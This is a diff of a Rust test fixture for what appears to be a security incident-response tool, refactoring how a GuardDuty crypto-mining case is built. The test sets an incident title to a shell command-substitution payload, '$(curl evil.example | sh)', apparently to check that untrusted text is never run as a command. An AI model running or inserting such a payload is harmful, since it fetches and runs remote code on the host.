@@ -379,34 +379,21 @@ mod tests {
     use crate::case::custody;
 
     fn case() -> Case {
-        let mut incident = crate::case::example_incident(
+        let mut case = crate::case::example_case();
+        case.case_id = "gd-abc".into();
+        case.incident = crate::case::example_incident(
             crate::case::FindingSource::GuardDuty,
             "CryptoCurrency:EC2/BitcoinTool.B!DNS",
             8.0,
         );
-        incident.title = "$(curl evil.example | sh) mining".into();
-        let decision = crate::case::Decision {
+        case.incident.title = "$(curl evil.example | sh) mining".into();
+        case.decision = crate::case::Decision {
             action: Action::Approve,
             reason: "instance tagged Environment=production: a person approves first".into(),
             dry_run: false,
             approval_timeout_seconds: Some(600),
         };
-        let opened = custody::entry(
-            "triage",
-            "me",
-            "opened",
-            &[],
-            Value::Null,
-            Value::Null,
-            None,
-        );
-        Case::open(
-            "gd-abc".into(),
-            incident,
-            decision,
-            Default::default(),
-            opened,
-        )
+        case
     }
 
     /// A gate that was asked and waits on `token`.
